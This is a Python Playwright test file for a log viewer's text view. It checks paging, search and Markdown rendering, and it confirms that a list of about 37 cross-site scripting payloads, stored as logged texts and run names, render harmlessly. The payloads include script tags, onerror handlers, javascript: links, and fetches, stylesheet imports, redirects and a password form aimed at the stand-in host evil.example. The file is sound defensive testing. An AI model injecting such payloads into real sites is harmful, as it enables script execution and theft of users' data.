"""The Text view: every text that was logged can be read, and none of them can do anything."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from glassboard.demo.data import CLASS_NAMES
from glassboard.testing.logdir import LogdirBuilder

from .board import Board, OpenLog
from .project import Project

NOTES = "mistakes/notes"

# Each would set `window.harmed`, open a dialog or send a request where the page let it.
HOSTILE = [
    "<script>window.harmed = 1; alert(1)</script>",
    "<img src=x onerror=\"window.harmed = 1; fetch('http://evil.example/')\">",
    "<img src=http://evil.example/pixel.png>",
    "![pixel](http://evil.example/pixel.png)",
    "![x](x\"onerror=\"window.harmed=1)",
    "<svg onload=window.harmed=1><script>window.harmed=1</script></svg>",
    "<svg><animate onbegin=window.harmed=1 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>parent.harmed=1</script></svg>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1>",
    "<math href=\"javascript:window.harmed=1\">click</math>",
    "<iframe src=\"javascript:parent.harmed=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.harmed=1</script>\"></iframe>",
    "<object data=\"data:text/html,<script>parent.harmed=1</script>\"></object>",
    "<embed src=http://evil.example/>",
    "<a href=\"javascript:window.harmed=1\">click</a>",
    "[click](javascript:window.harmed=1)",
    "[click](JaVaScRiPt&colon;window.harmed=1)",
    "[click](data:text/html,<script>window.harmed=1</script>)",
    "[click](vbscript:msgbox)",
    "<javascript:window.harmed=1>",
    "<div onmouseover=window.harmed=1 style=\"position:fixed;inset:0\">all over the page</div>",
    "<style>@import 'http://evil.example/x.css'; * { background: url(http://evil.example/y) }</style>",
    "<link rel=stylesheet href=http://evil.example/z.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<form action=http://evil.example/><input name=password autofocus onfocus=window.harmed=1><button>Send</button></form>",
    "<details open ontoggle=window.harmed=1><summary>more</summary>text</details>",
    "<video src=http://evil.example/v autoplay onloadstart=window.harmed=1></video><audio src=x onerror=window.harmed=1>",
    "<body onload=window.harmed=1><marquee onstart=window.harmed=1>moving</marquee>",
    "<input type=image src=x onerror=window.harmed=1><select autofocus onfocus=window.harmed=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.harmed=1>\"></noscript>",
    "<template><script>window.harmed=1</script></template>",
    "<x-y is=a onclick=window.harmed=1 id=app name=body class=page>named like a part of the page</x-y>",
    "`</code><script>window.harmed=1</script>`",
    "```\"><script>window.harmed=1</script>\n</pre><img src=x onerror=window.harmed=1>\n```",
    "| <img src=x onerror=window.harmed=1> | b |\n|---|---|\n| <script>window.harmed=1</script> | d |",
    "<p><b><i>never closed <table><tr><td><script>window.harmed=1",
    "\x00<scr\x00ipt>window.harmed=1</script> \u202e <\uff53cript>",
]  # fmt: skip

# Elements and attributes in the texts that no Markdown needs; what may be there is named, so that nothing is forgotten.
_FOREIGN = """
(texts) => {
  const tags = new Set(`a b blockquote br code del details dd div dl dt em h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre s
    samp span strong sub summary sup table tbody td tfoot th thead tr u ul var`.split(/\\s+/));
  const attributes = new Set(["href", "title", "align", "colspan", "rowspan", "start", "open", "rel", "target"]);
  const foreign = [];
  for (const root of texts.querySelectorAll(".markdown")) {
    for (const element of root.querySelectorAll("*")) {
      if (!tags.has(element.localName)) foreign.push(element.outerHTML);
      for (const { name, value } of element.attributes) {
        if (!attributes.has(name) || (name === "href" && !/^(https?:|mailto:)/.test(value))) foreign.push(element.outerHTML);
      }
      if (element.localName === "a" && !/noopener/.test(element.rel)) foreign.push(element.outerHTML);
    }
  }
  return foreign;
}
"""


@pytest.fixture
def watched(page: Page) -> tuple[list[str], list[str]]:
    """Dialogs that opened and addresses that were asked for."""
    dialogs: list[str] = []
    asked: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: asked.append(request.url))
    return dialogs, asked


def test_the_step_control_reaches_every_mistakes_text(board: Board, project: Project) -> None:
    board.open(view="text", v_texts=NOTES)
    card = board.card(NOTES)
    board.toolbar.get_by_role("radio", name="One step").check()
    slider = card.get_by_role("slider", name=f"Text of {NOTES}")
    slider.press("Home")
    count = len(project.mistakes)
    assert count > 25
    for rank, mistake in enumerate(project.mistakes):
        expect(card.get_by_text(f"{rank + 1} of {count}", exact=True)).to_be_visible()
        (item,) = card.get_by_role("listitem").all()
        expect(item).to_contain_text(f"step {rank}")
        expect(item).to_contain_text(
            f"Validation image {mistake.image_index} (step {rank} of mistakes/characters)"
        )
        for row, label in (("predicted", mistake.predicted), ("actual", mistake.actual)):
            expect(item.get_by_role("row").filter(has_text=row)).to_contain_text(CLASS_NAMES[label])
        slider.press("ArrowRight")
    box = card.get_by_role("textbox", name="step")
    box.fill("17")
    box.press("Enter")
    expect(card.get_by_role("listitem")).to_contain_text(
        f"Validation image {project.mistakes[17].image_index} "
    )


def test_all_mistakes_can_be_read_in_one_list(board: Board, project: Project) -> None:
    board.open(view="text", v_texts=NOTES)
    card = board.card(NOTES)
    texts = card.get_by_role("listitem")
    count = len(project.mistakes)
    expect(card).to_contain_text(f"{count} texts")
    # The newest first.
    expect(texts.first).to_contain_text(f"Validation image {project.mistakes[-1].image_index} ")
    while card.get_by_role("button", name="more").count():
        before = texts.count()
        card.get_by_role("button", name="more").click()
        board.until(lambda: texts.count() > before, "more texts are shown")  # noqa: B023
    expect(texts).to_have_count(count)
    for rank, text in enumerate(reversed(texts.all())):
        expect(text).to_contain_text(f"Validation image {project.mistakes[rank].image_index} ")


def test_a_mistakes_text_and_its_image_share_the_pages_step(board: Board, project: Project) -> None:
    board.open(view="text", v_texts=NOTES, step=5)
    board.toolbar.get_by_role("radio", name="One step").check()
    expect(board.card(NOTES)).to_contain_text(f"Validation image {project.mistakes[5].image_index} ")
    board.view("Images").click()
    card = board.card("mistakes/characters")
    expect(card).to_contain_text(f"sample 6 of {len(project.mistakes)}")
    wanted = project.images.validation_images[project.mistakes[5].image_index]
    board.until(
        lambda: (board.image_pixels(card.locator("img"))[..., 0] == wanted).all(),
        "the image of mistake 5 is shown",
    )


def test_texts_can_be_searched(board: Board, project: Project) -> None:
    board.open(view="text", v_texts=NOTES)
    wanted = project.mistakes[2].image_index
    board.toolbar.get_by_role("searchbox", name="Find in texts").fill(f"/image \\*\\*{wanted}\\*\\*/")
    card = board.card(NOTES)
    expect(card).to_contain_text(f"1 of {len(project.mistakes)} texts")
    expect(card.get_by_role("listitem")).to_have_count(1)
    expect(card.get_by_role("listitem")).to_contain_text(f"Validation image {wanted} ")


def test_markdown_is_laid_out_or_shown_as_it_was_logged(tmp_path: Path, open_log: OpenLog) -> None:
    text = (
        "# Title\n\n- **bold**\n- `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link](https://example.com/)"
    )
    LogdirBuilder(tmp_path).run("a").text("note", text)
    board = open_log(tmp_path).open()
    body = board.card("note").get_by_role("listitem").first
    expect(body.get_by_role("heading", name="Title")).to_be_visible()
    expect(body.get_by_role("row")).to_have_count(2)
    link = body.get_by_role("link", name="link")
    assert link.get_attribute("target") == "_blank"
    assert "noopener" in (link.get_attribute("rel") or "")
    board.toolbar.get_by_role("button", name="Markdown").click()
    expect(board.card("note").locator("pre")).to_have_text(text)


@pytest.mark.parametrize("context_options", [{}, {"bypass_csp": True}], ids=["policy", "no policy"])
def test_hostile_texts_do_nothing(
    tmp_path: Path,
    open_log: OpenLog,
    complaints: list[str],
    watched: tuple[list[str], list[str]],
    context_options: dict[str, bool],
) -> None:
    """Also in a browser that knows no content security policy, which is the second lock on the same door."""
    run = LogdirBuilder(tmp_path).run("<img src=x onerror=window.harmed=1>")
    for step, text in enumerate(HOSTILE):
        run.text("<script>window.harmed=1</script>", text, step=step)
    run.scalars("<b onmouseover=window.harmed=1>loss", [1.0])
    board = open_log(tmp_path).open(view="text")
    texts = board.page.get_by_role("list", name="Texts of")
    board.page.get_by_role("button", name="Show 17 more, 17 left").click()
    expect(texts.locator(".markdown, .raw")).to_have_count(len(HOSTILE))
    assert texts.evaluate(_FOREIGN) == []
    # Words stay readable, and the page keeps its place above the text.
    expect(texts).to_contain_text("all over the page")
    assert (
        texts.get_by_text("all over the page").evaluate("(text) => getComputedStyle(text).position")
        == "static"
    )
    texts.get_by_text("all over the page").hover()
    for text in texts.locator(".markdown a").all():
        assert (text.get_attribute("href") or "https:").startswith(("http:", "https:", "mailto:"))
    # As they were logged, in a search, and in the other places that show names.
    board.toolbar.get_by_role("button", name="Markdown").click()
    expect(texts.locator("pre.raw")).to_have_count(len(HOSTILE))
    assert texts.locator("pre.raw").all_text_contents() == HOSTILE[::-1]
    board.toolbar.get_by_role("searchbox", name="Find in texts").fill("onerror")
    expect(board.card("<script>window.harmed=1</script>")).to_contain_text("of 37 texts")
    board.view("Scalars").click()
    expect(board.chart("<b onmouseover=window.harmed=1>loss")).to_be_visible()
    board.hover("<b onmouseover=window.harmed=1>loss", 0)
    board.page.keyboard.press("Control+k")
    board.page.keyboard.type("onerror")
    expect(board.page.get_by_role("option", name="onerror=window.harmed").first).to_be_visible()
    dialogs, asked = watched
    assert dialogs == []
    assert board.page.evaluate("() => window.harmed") is None
    assert [url for url in asked if "evil" in url or url.endswith("/x")] == []
    if not context_options:
        # Chromium says so of every document it parses, also of the one without a window in which texts are cleaned.
        complaints[:] = [said for said in complaints if "Content Security Policy directive" not in said]


def test_a_text_that_is_very_long_is_shown_and_the_page_stays_quick(
    tmp_path: Path, open_log: OpenLog
) -> None:
    LogdirBuilder(tmp_path).run("a").text("log", "line of a log\n" * 40_000)
    board = open_log(tmp_path).open()
    expect(board.card("log").locator("pre")).to_contain_text("line of a log")
    assert board.page.locator("*").count() < 1_000
